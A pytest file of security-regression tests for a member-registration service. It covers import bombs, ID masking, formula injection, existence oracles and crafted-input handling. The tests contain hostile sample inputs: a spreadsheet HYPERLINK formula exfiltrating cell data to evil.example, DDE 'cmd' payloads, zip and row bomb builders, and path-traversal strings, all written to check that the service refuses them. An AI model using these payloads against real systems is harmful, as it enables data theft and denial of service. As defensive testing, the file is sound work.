"""Findings of the security review (issue 17) in the registration service, each held by a test
that failed before its fix: import bombs, masks, formula injection, ids, oracles."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from datetime import date, timedelta

import pytest
from openpyxl import Workbook, load_workbook

from services.registration import imports
from services.registration.app import create_app
from tests.support.builders import id_number, member_body, org_tree
from tests.support.tokens import ADMIN, bearer


@pytest.fixture(scope="module")
def client(settings_for, migrated):
    migrated("registration")
    return create_app(settings_for("registration")).test_client()


def upload(client, branch: str, content: bytes, name: str, headers=ADMIN, dry_run: bool = True):
    return client.post(
        f"/api/v1/imports/members?branch={branch}&dry_run={'true' if dry_run else 'false'}",
        data={"file": (io.BytesIO(content), name)},
        headers=headers,
        content_type="multipart/form-data",
    )


HEADER = [name for name in imports.COLUMNS if name != "branch_code"]


def one_row(branch: str) -> list[str]:
    body = member_body(branch, id_number=id_number())
    return [str(body[name]) for name in HEADER]


def xlsx_with_sheet(sheet_xml: str) -> bytes:
    """A minimal xlsx whose only sheet is `sheet_xml` (as a crafted file would be)."""
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="xl/workbook.xml" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/worksheet"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def inline_row(number: int, values: list[str]) -> str:
    cells = "".join(
        f'<c r="{chr(65 + index)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
        for index, value in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'


def sheet(dimension: str | None, rows: str) -> str:
    declared = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{declared}<sheetData>{rows}</sheetData></worksheet>"
    )


# --- 1: the import bomb -----------------------------------------------------------------------


def test_import_refuses_a_declared_sheet_of_a_million_rows_by_16k_columns(client):
    codes = org_tree(client, ADMIN)
    # A valid file but for its declared size: before, openpyxl built every row 16,384 cells wide.
    bomb = xlsx_with_sheet(
        sheet("A1:XFD1048576", inline_row(1, HEADER) + inline_row(2, one_row(codes["branch"])))
    )
    assert len(bomb) < 4096
    response = upload(client, codes["branch"], bomb, "ledger.xlsx")
    assert response.status_code == 422, response.get_json()
    assert "declares" in response.get_json()["errors"]["files"]["file"][0]


def test_import_refuses_a_zip_that_unpacks_past_the_limit(client):
    codes = org_tree(client, ADMIN)
    padding = "<!--" + " " * (imports.MAX_UNPACKED_BYTES + 1024) + "-->"
    bomb = xlsx_with_sheet(sheet("A1:H2", inline_row(1, HEADER) + padding))
    assert len(bomb) < imports.MAX_UPLOAD_BYTES
    response = upload(client, codes["branch"], bomb, "ledger.xlsx")
    assert response.status_code == 422, response.get_json()
    assert "unpacks" in response.get_json()["errors"]["files"]["file"][0]


def row_bomb_xlsx(rows: int, dimension: str | None = "A1:H2") -> bytes:
    # The sheet lies about its size: only streaming with a row cap stops it.
    body = inline_row(1, HEADER) + "".join(f'<row r="{n}"/>' for n in range(2, rows))
    return xlsx_with_sheet(sheet(dimension, body))


def row_bomb_csv(rows: int) -> bytes:
    return (",".join(HEADER) + "\n" + "\n" * rows).encode()


# The xlsx bomb stays just under the unpacked-size limit, so that only the row cap can stop it.
@pytest.mark.parametrize(
    ("make", "rows", "name"), [(row_bomb_csv, 2_000_000, "bomb.csv"), (row_bomb_xlsx, 1_800_000, "bomb.xlsx")]
)
def test_a_row_bomb_is_refused_without_building_its_rows(make, rows, name):
    content = make(rows)
    assert len(content) < imports.MAX_UPLOAD_BYTES  # it passes the size limit
    tracemalloc.start()
    try:
        with pytest.raises(imports.InvalidInput) as refused:
            imports.parse_members(content, name, "BR-1")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert f"at most {imports.MAX_ROWS} rows" in refused.value.message
    # 2 M rows as lists take well over 100 MB; reading stops at the cap instead.
    assert peak < 40 * 1024 * 1024, peak


def test_a_sheet_that_declares_no_size_is_refused_before_its_rows_are_parsed():
    # Without a <dimension>, openpyxl parsed every row of the sheet just to size it.
    content = row_bomb_xlsx(1_800_000, dimension=None)
    tracemalloc.start()
    try:
        with pytest.raises(imports.InvalidInput) as refused:
            imports.parse_members(content, "bomb.xlsx", "BR-1")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "dimension" in refused.value.message
    assert peak < 40 * 1024 * 1024, peak


def test_import_checks_scope_before_reading_and_refuses_uploads_over_5_mb(client, monkeypatch):
    codes = org_tree(client, ADMIN)
    other = org_tree(client, ADMIN)
    read = []
    monkeypatch.setattr(imports, "parse_members", lambda *args, **kwargs: read.append(args))
    stranger = bearer("branch_secretary", other["branch"])
    assert upload(client, codes["branch"], row_bomb_csv(10), "a.csv", headers=stranger).status_code == 403
    assert read == []
    big = b"name\n" + b"x" * (imports.MAX_UPLOAD_BYTES + 10)
    too_big = upload(client, codes["branch"], big, "a.csv")
    assert too_big.status_code == 413, too_big.get_json()
    assert read == []


def test_a_csv_field_over_128_kb_is_a_422_naming_the_file(client):
    codes = org_tree(client, ADMIN)
    row = one_row(codes["branch"])
    row[0] = "名" * (130 * 1024)
    content = (",".join(HEADER) + "\n" + ",".join(row) + "\n").encode()
    response = upload(client, codes["branch"], content, "a.csv")
    assert response.status_code == 422, response.get_json()
    assert "file" in response.get_json()["errors"]["files"]


def test_an_ordinary_xlsx_still_imports_as_a_dry_run(client):
    codes = org_tree(client, ADMIN)
    workbook = Workbook()
    sheet_ = workbook.active
    sheet_.append(HEADER)
    sheet_.append(one_row(codes["branch"]))
    content = io.BytesIO()
    workbook.save(content)
    response = upload(client, codes["branch"], content.getvalue(), "a.xlsx")
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["rows"] == 1 and response.get_json()["valid"] == 1


# --- 4: masks that hold -----------------------------------------------------------------------


def new_member(client, branch: str, headers=ADMIN, **overrides) -> dict:
    response = client.post("/api/v1/members", json=member_body(branch, **overrides), headers=headers)
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def audits(migrated, **where) -> list:
    from sqlalchemy import select

    from services.registration.models import audit_log

    statement = select(audit_log)
    for column, value in where.items():
        statement = statement.where(audit_log.c[column] == value)
    with migrated("registration").reader() as session:
        return list(session.execute(statement).all())


def test_wherever_the_id_number_is_masked_the_birth_date_is_the_year_only(client):
    codes = org_tree(client, ADMIN)
    member = new_member(
        client, codes["branch"], birth_date="1988-03-04", id_number=id_number(date(1988, 3, 4))
    )
    assert member["birth_date"] == "1988-03-04"  # the full record keeps the date
    fellow = client.get(f"/api/v1/members/{member['id']}", headers=bearer("member", codes["branch"], sub="f"))
    masked = client.get(f"/api/v1/members/{member['id']}?masked=true", headers=ADMIN)
    listed = client.get(f"/api/v1/members?branch={codes['branch']}", headers=ADMIN)
    for record in (fellow.get_json(), masked.get_json(), listed.get_json()["items"][0]):
        assert "*" in record["id_number"]
        assert record["birth_date"] == "1988", record


def test_a_masked_list_of_several_members_is_audited_once_per_read(client, migrated):
    codes = org_tree(client, ADMIN)
    for _ in range(3):
        new_member(client, codes["branch"])
    secretary = bearer("branch_secretary", codes["branch"], sub="sec-list-audit")
    assert client.get(f"/api/v1/members?branch={codes['branch']}", headers=secretary).status_code == 200
    assert (
        client.get(f"/api/v1/members?branch={codes['branch']}&limit=1", headers=secretary).status_code == 200
    )
    entries = audits(migrated, actor="sec-list-audit")
    # One entry for the list of three; a page of one member names no crowd and is not audited.
    assert [(row.action, row.object_id) for row in entries] == [("list_masked", codes["branch"])]


# --- 5: formula injection in the ledger ---------------------------------------------------------

FORMULAS = {
    "destination_address": '=HYPERLINK("http://evil.example/?leak="&A2,"详情")',
    "occupation": "+cmd|' /C calc'!A0",
    "employer": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_the_ledger_writes_member_text_as_text_never_as_a_formula(client):
    codes = org_tree(client, ADMIN)
    member = new_member(client, codes["branch"])
    body = {
        "destination_region": "330602",
        "departed_on": (date.today() - timedelta(days=3)).isoformat(),
        "reason": "务工",
        "contact_phone": "13912345678",
        **FORMULAS,
    }
    mine = bearer("member", codes["branch"], sub=member["id"])
    assert client.post(f"/api/v1/members/{member['id']}/outflows", json=body, headers=mine).status_code == 201

    as_csv = client.get(f"/api/v1/ledger?org={codes['branch']}&format=csv", headers=ADMIN)
    lines = as_csv.get_data(as_text=True).lstrip("\ufeff").splitlines()[1:]  # after the title row
    row = next(csv.DictReader(io.StringIO("\n".join(lines))))
    as_xlsx = client.get(f"/api/v1/ledger?org={codes['branch']}&format=xlsx", headers=ADMIN)
    sheet = load_workbook(io.BytesIO(as_xlsx.get_data())).worksheets[0]
    header = [cell.value for cell in sheet[2]]
    columns = {"destination_address": "现居住地址", "occupation": "从事职业", "employer": "工作单位"}
    for name, text in FORMULAS.items():
        column = columns[name]
        # csv has no cell types: a leading apostrophe; xlsx: a text cell holding the text as written.
        assert row[column] == "'" + text, (column, row[column])
        cell = sheet.cell(row=3, column=header.index(column) + 1)
        assert cell.data_type == "s" and cell.value == text, (column, cell.data_type, cell.value)


# --- 11: write without read -------------------------------------------------------------------


def outflow_body(**overrides) -> dict:
    return {
        "destination_region": "110105",
        "destination_address": "北京市朝阳区",
        "occupation": "快递员",
        "departed_on": (date.today() - timedelta(days=3)).isoformat(),
        "reason": "务工",
        "contact_phone": "13912345678",
        **overrides,
    }


def inflow_body(branch: str, **overrides) -> dict:
    return {
        "branch_code": branch,
        "arrived_on": date.today().isoformat(),
        "current_address": "北京市朝阳区望京街道",
        "occupation": "快递员",
        **overrides,
    }


def test_a_secretary_records_an_inflow_only_with_the_members_activity_card(client, migrated):
    home, away = org_tree(client, ADMIN), org_tree(client, ADMIN)
    member = new_member(client, home["branch"])
    card = client.post(
        f"/api/v1/members/{member['id']}/outflows", json=outflow_body(), headers=ADMIN
    ).get_json()["activity_card_no"]
    secretary = bearer("branch_secretary", away["branch"], sub="sec-card")
    url = f"/api/v1/members/{member['id']}/inflows"

    missing = client.post(url, json=inflow_body(away["branch"]), headers=secretary)
    assert missing.status_code == 422 and "activity_card_no" in missing.get_json()["errors"]["json"]
    wrong = client.post(url, json=inflow_body(away["branch"], activity_card_no=card + "9"), headers=secretary)
    assert wrong.status_code == 422 and "activity_card_no" in wrong.get_json()["errors"]["json"]
    # Nobody by that id: the very same answer, so a guess learns nothing about who exists.
    ghost = client.post(
        "/api/v1/members/0123456789abcdef01234567/inflows",
        json=inflow_body(away["branch"], activity_card_no=card),
        headers=secretary,
    )
    assert (ghost.status_code, ghost.get_json()) == (wrong.status_code, wrong.get_json())

    right = client.post(url, json=inflow_body(away["branch"], activity_card_no=card), headers=secretary)
    assert right.status_code == 201, right.get_json()
    assert [row.action for row in audits(migrated, actor="sec-card")] == ["create"]


def test_a_member_registers_their_own_inflow_without_the_card(client, migrated):
    home, away = org_tree(client, ADMIN), org_tree(client, ADMIN)
    member = new_member(client, home["branch"])
    client.post(f"/api/v1/members/{member['id']}/outflows", json=outflow_body(), headers=ADMIN)
    mine = bearer("member", home["branch"], sub=member["id"])
    response = client.post(
        f"/api/v1/members/{member['id']}/inflows", json=inflow_body(away["branch"]), headers=mine
    )
    assert response.status_code == 201, response.get_json()
    entries = audits(migrated, actor=member["id"], object_type="inflow")
    assert [row.object_id for row in entries] == [response.get_json()["id"]]


# --- 12: the national-ID membership oracle -------------------------------------------------------


def test_a_duplicate_id_number_answers_the_same_wherever_the_member_is(client):
    mine, elsewhere = org_tree(client, ADMIN), org_tree(client, ADMIN)
    near = new_member(client, mine["branch"], id_number=id_number())
    far = new_member(client, elsewhere["branch"], id_number=id_number())
    secretary = bearer("branch_secretary", mine["branch"], sub="sec-dup")
    near_body = member_body(
        mine["branch"],
        id_number=client.get(f"/api/v1/members/{near['id']}", headers=ADMIN).get_json()["id_number"],
    )
    far_body = member_body(
        mine["branch"],
        id_number=client.get(f"/api/v1/members/{far['id']}", headers=ADMIN).get_json()["id_number"],
    )
    in_scope = client.post("/api/v1/members", json=near_body, headers=secretary)
    out_of_scope = client.post("/api/v1/members", json=far_body, headers=secretary)
    assert in_scope.status_code == out_of_scope.status_code == 409
    assert in_scope.get_json() == out_of_scope.get_json()


def test_the_import_dry_run_reports_registered_ids_only_within_the_callers_scope(client):
    mine, elsewhere = org_tree(client, ADMIN), org_tree(client, ADMIN)
    sibling = client.post(
        "/api/v1/orgs",
        json={
            "code": f"{mine['branch']}-2",
            "name": "二支部",
            "level": "branch",
            "parent_code": mine["township"],
        },
        headers=ADMIN,
    ).get_json()["code"]
    near = new_member(client, sibling)
    far = new_member(client, elsewhere["branch"])
    numbers = [
        client.get(f"/api/v1/members/{m['id']}", headers=ADMIN).get_json()["id_number"] for m in (near, far)
    ]
    rows = [one_row(mine["branch"]) for _ in numbers]
    for row, number in zip(rows, numbers, strict=True):
        row[HEADER.index("id_number")] = number
        row[HEADER.index("birth_date")] = f"{number[6:10]}-{number[10:12]}-{number[12:14]}"
    content = ("\n".join(",".join(row) for row in [HEADER, *rows]) + "\n").encode()
    officer = bearer("township_officer", mine["township"], sub="officer-dry-run")
    report = upload(client, mine["branch"], content, "a.csv", headers=officer)
    assert report.status_code == 200, report.get_json()
    # The member at the sibling branch is the officer's to know; the one in another county is not.
    assert report.get_json()["errors"] == [
        {"row": 1, "field": "id_number", "message": "第 2 行 D 列「公民身份号码」：该公民身份号码已登记"}
    ]


def test_duplicate_answers_are_rate_limited_per_caller(client):
    codes = org_tree(client, ADMIN)
    member = new_member(client, codes["branch"])
    number = client.get(f"/api/v1/members/{member['id']}", headers=ADMIN).get_json()["id_number"]
    prober = bearer("branch_secretary", codes["branch"], sub="sec-prober")
    answers = [
        client.post(
            "/api/v1/members", json=member_body(codes["branch"], id_number=number), headers=prober
        ).status_code
        for _ in range(11)
    ]
    assert answers == [409] * 10 + [429]
    # Another caller is counted on their own.
    other = bearer("branch_secretary", codes["branch"], sub="sec-honest")
    fresh = client.post("/api/v1/members", json=member_body(codes["branch"]), headers=other)
    assert fresh.status_code == 201


# --- 13: the contact phone of the mobility history ------------------------------------------------


def test_mobility_gives_the_full_contact_phone_only_audited_and_masked_on_request(client, migrated):
    codes = org_tree(client, ADMIN)
    member = new_member(client, codes["branch"])
    client.post(
        f"/api/v1/members/{member['id']}/outflows",
        json=outflow_body(contact_phone="13712345678"),
        headers=ADMIN,
    )
    secretary = bearer("branch_secretary", codes["branch"], sub="sec-mobility")
    url = f"/api/v1/members/{member['id']}/mobility"
    masked = client.get(f"{url}?masked=true", headers=secretary)
    assert masked.status_code == 200, masked.get_json()
    assert masked.get_json()["items"][0]["contact_phone"] == "137****5678"
    assert audits(migrated, actor="sec-mobility") == []
    full = client.get(url, headers=secretary)
    assert full.get_json()["items"][0]["contact_phone"] == "13712345678"
    entries = audits(migrated, actor="sec-mobility")
    assert [(row.action, row.object_id) for row in entries] == [("read_full", member["id"])]


# --- 22: existence oracles and control characters ----------------------------------------------------


def test_a_missing_member_answers_as_one_out_of_scope_does(client):
    codes, other = org_tree(client, ADMIN), org_tree(client, ADMIN)
    member = new_member(client, other["branch"])
    secretary = bearer("branch_secretary", codes["branch"])
    ghost = "0123456789abcdef0123abcd"
    for make in (
        lambda m: client.get(f"/api/v1/members/{m}", headers=secretary),
        lambda m: client.get(f"/api/v1/members/{m}?masked=true", headers=secretary),
        lambda m: client.get(f"/api/v1/members/{m}/mobility", headers=secretary),
        lambda m: client.post(f"/api/v1/members/{m}/outflows", json=outflow_body(), headers=secretary),
        lambda m: client.get(f"/api/v1/members/{m}", headers=bearer("member", codes["branch"], sub="nosy")),
    ):
        existing, missing = make(member["id"]), make(ghost)
        assert existing.status_code == missing.status_code == 403
        assert existing.get_json() == missing.get_json()
    assert client.get(f"/api/v1/members/{ghost}", headers=ADMIN).status_code == 404


@pytest.mark.parametrize("name", ["李\r\n明", "李\n明", "李\t明", "李\x1b[31m明", "李\u2028明", "李\x85明"])
def test_names_with_control_characters_are_refused_naming_the_field(client, name):
    codes = org_tree(client, ADMIN)
    member = client.post("/api/v1/members", json=member_body(codes["branch"], name=name), headers=ADMIN)
    assert member.status_code == 422 and "name" in member.get_json()["errors"]["json"]
    org = client.post(
        "/api/v1/orgs",
        json={
            "code": f"{codes['township']}-X",
            "name": name,
            "level": "branch",
            "parent_code": codes["township"],
        },
        headers=ADMIN,
    )
    assert org.status_code == 422 and "name" in org.get_json()["errors"]["json"]


# --- 7 and 16: ids at the edge, crafted input ------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/members/..",
        "/api/v1/members/ledger%3Forg%3DCN",
        "/api/v1/members/a.b",
        "/api/v1/members/a%20b/mobility",
        "/api/v1/members/%E6%9D%8E/outflows",
        "/api/v1/members/x%25y/inflows",
        "/api/v1/orgs/cn",
        "/api/v1/orgs/A.B",
    ],
)
def test_malformed_ids_in_paths_are_a_422_naming_them(client, path):
    response = (
        client.post(path, json=outflow_body(), headers=ADMIN)
        if path.endswith("flows")
        else client.get(path, headers=ADMIN)
    )
    assert response.status_code == 422, (path, response.status_code, response.get_json())
    assert set(response.get_json()["errors"]["path"]) <= {"member_id", "code"}


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/members?brnch=X",
        "/api/v1/members?limit=5&mobil=true",
        "/api/v1/orgs?parent=CN&sort=name",
        "/api/v1/ledger?org=CN&sides=inflow&format=json",
        "/api/v1/members/abc?full=true",
    ],
)
def test_unknown_query_parameters_are_refused(client, url):
    response = client.get(url, headers=ADMIN)
    assert response.status_code == 422, (url, response.get_json())
    assert response.get_json()["errors"]["query"]


def test_crafted_input_is_a_4xx(client):
    codes = org_tree(client, ADMIN)
    nested = "[" * 5000 + "]" * 5000
    assert (
        client.post(
            "/api/v1/members", data=nested, content_type="application/json", headers=ADMIN
        ).status_code
        == 422
    )
    assert client.get("/api/v1/members?cursor=%FF%FE", headers=ADMIN).status_code == 422
    assert client.get("/api/v1/members?cursor=W3siYSI6MX1d", headers=ADMIN).status_code == 422
    surrogate = b'{"name": "\\ud800", "level": "branch", "code": "AB-1", "parent_code": "CN"}'
    assert (
        client.post(
            "/api/v1/orgs", data=surrogate, content_type="application/json", headers=ADMIN
        ).status_code
        == 422
    )
    # A slash decodes before routing: no member route takes it (404), and nothing answers 500.
    assert client.get("/api/v1/members/..%2F..%2Fledger", headers=ADMIN).status_code == 404
    big_field = (",".join(HEADER) + "\n" + "x" * (200 * 1024) + "\n").encode()
    assert upload(client, codes["branch"], big_field, "a.csv").status_code == 422
